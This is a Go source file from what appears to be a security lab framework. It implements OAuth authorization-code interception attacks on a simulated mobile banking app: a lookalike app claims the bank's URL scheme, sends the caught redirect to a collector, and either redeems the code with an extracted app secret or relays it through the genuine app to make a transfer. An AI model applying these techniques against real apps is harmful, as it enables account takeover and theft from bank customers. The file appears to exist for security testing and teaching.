@@ -1,0 +1,143 @@
+package appside
+
+import (
+	"context"
+	"errors"
+	"fmt"
+	"net/url"
+	"path/filepath"
+
+	"keyladder/mobileclient/attacker/attack"
+	"keyladder/mobileclient/attacker/lookalike"
+	"keyladder/mobileclient/attacker/loot"
+	"keyladder/stages/protect"
+)
+
+// CodeHijack has an app of the attacker's on the victim's phone, which claims the same links as the
+// bank's: nobody owns a scheme (RFC 8252, section 8.1). It is handed the redirect in which the
+// authorization server sends what it gives. A token is good at once. A code is exchanged with the
+// app's own secret, which is the same in every copy of the app and lies in the memory of the one
+// on the attacker's phone.
+//
+//keyladder:code attack-code-hijack
+func CodeHijack(ctx context.Context, g *attack.Given) (attack.Result, error) {
+	link, err := hijack(ctx, g)
+	if err != nil {
+		return attack.Result{}, err
+	}
+	var caught loot.Loot
+	caught.Search([]byte(link))
+	if len(caught.Tokens) > 0 {
+		g.Say("In it: %s.", &caught.Tokens)
+		return attack.RobAs(ctx, g, []protect.Identity{{ClientID: g.ClientID, Token: caught.Tokens[0]}})
+	}
+	code := parameter(link, "code")
+	if code == "" {
+		return attack.Result{}, errors.New("there is neither a token nor a code in the link that was caught")
+	}
+	g.Say("In it: an authorization code.")
+	phone, found, err := g.Hook(ctx)
+	if err != nil {
+		return attack.Stopped(err)
+	}
+	defer phone.Close()
+	tries, err := g.Identities(found.OfApp()...)
+	if err != nil {
+		return attack.Result{}, err
+	}
+	if len(tries) == 0 {
+		return attack.Result{}, errors.New("the app's own secret was not found in its memory")
+	}
+	p, err := attack.NewProgram(g, tries[0])
+	if err != nil {
+		return attack.Result{}, err
+	}
+	defer p.Close()
+	err = p.Redeem(ctx, protect.Response{Code: code})
+	if err == nil {
+		g.Say("Exchanged the code for an access token, with a program that is not the app.")
+		err = p.Rob(ctx)
+	}
+	if err != nil {
+		return attack.Stopped(err)
+	}
+	return attack.Result{Claim: true, Stolen: []string{code, tries[0].Secret}}, nil
+}
+
+// CodeRelay catches the code in the same way, and has the genuine app exchange it, on the
+// attacker's own phone: it begins to sign in there, so that the app waits for a redirect, and opens
+// the app with one that carries the victim's code. No secret has to be found, and the app is none
+// but the bank's.
+//
+//keyladder:code attack-code-relay
+func CodeRelay(ctx context.Context, g *attack.Given) (attack.Result, error) {
+	link, err := hijack(ctx, g)
+	if err != nil {
+		return attack.Result{}, err
+	}
+	code := parameter(link, "code")
+	if code == "" {
+		return attack.Result{}, errors.New("there is no code in the link that was caught")
+	}
+	phone, err := g.Open(ctx, g.Package, nil)
+	if err != nil {
+		return attack.Result{}, err
+	}
+	defer phone.Close()
+	if _, err := attack.Shown(phone.App.OpenSignIn(ctx)); err != nil {
+		return attack.Stopped(err)
+	}
+	page := phone.Device.Agent().Current()
+	if page == nil {
+		return attack.Result{}, errors.New("the app opens no page to sign in on")
+	}
+	relayed := g.RedirectURI + "?" + url.Values{"code": {code}, "state": {parameter(page.URL, "state")}, "iss": {parameter(link, "iss")}}.Encode()
+	g.Say("Began to sign in with the genuine app on our own phone, and opened it with a link that carries its own state and the victim's code.")
+	if _, err := phone.Device.HandOver(ctx, relayed, g.Stage.Slug); err != nil {
+		return attack.Result{}, fmt.Errorf("open the app with a link: %w", err)
+	}
+	payment, err := phone.Payment(ctx, attack.Pittance)
+	if err != nil {
+		return attack.Stopped(err)
+	}
+	if _, err := attack.Shown(phone.App.Transfer(ctx, payment)); err != nil {
+		return attack.Stopped(err)
+	}
+	g.Say("Transferred %d minor units from %s to %s with it.", payment.Amount, payment.From, payment.To)
+	return attack.Result{Claim: true, Stolen: []string{code}}, nil
+}
+
+// hijack has the victim sign in while the attacker's app takes the redirect, and returns that.
+func hijack(ctx context.Context, g *attack.Given) (link string, err error) {
+	collector, err := lookalike.NewCollector("")
+	if err != nil {
+		return "", err
+	}
+	defer collector.Close()
+	path := filepath.Join(g.Dir, "thief.pkg")
+	if err := lookalike.PackThief(g.Package, path, collector.URL()); err != nil {
+		return "", err
+	}
+	if err := g.Thief.Install(path); err != nil {
+		return "", fmt.Errorf("the victim does not install our app: %w", err)
+	}
+	g.Say("The victim has an app of ours beside the bank's. It claims the same links, and was installed later.")
+	if err := g.Thief.SignsIn(ctx); err != nil {
+		return "", fmt.Errorf("the victim does not sign in: %w", err)
+	}
+	caught, ok := collector.Latest()
+	if !ok || caught.Link == "" {
+		return "", errors.New("no link came to our app")
+	}
+	g.Say("The victim signed in with the bank's app, on the bank's page. The link that leads back came to our app.")
+	return caught.Link, nil
+}
+
+// parameter is one of a link's query.
+func parameter(link, name string) string {
+	u, err := url.Parse(link)
+	if err != nil {
+		return ""
+	}
+	return u.Query().Get(name)
+}
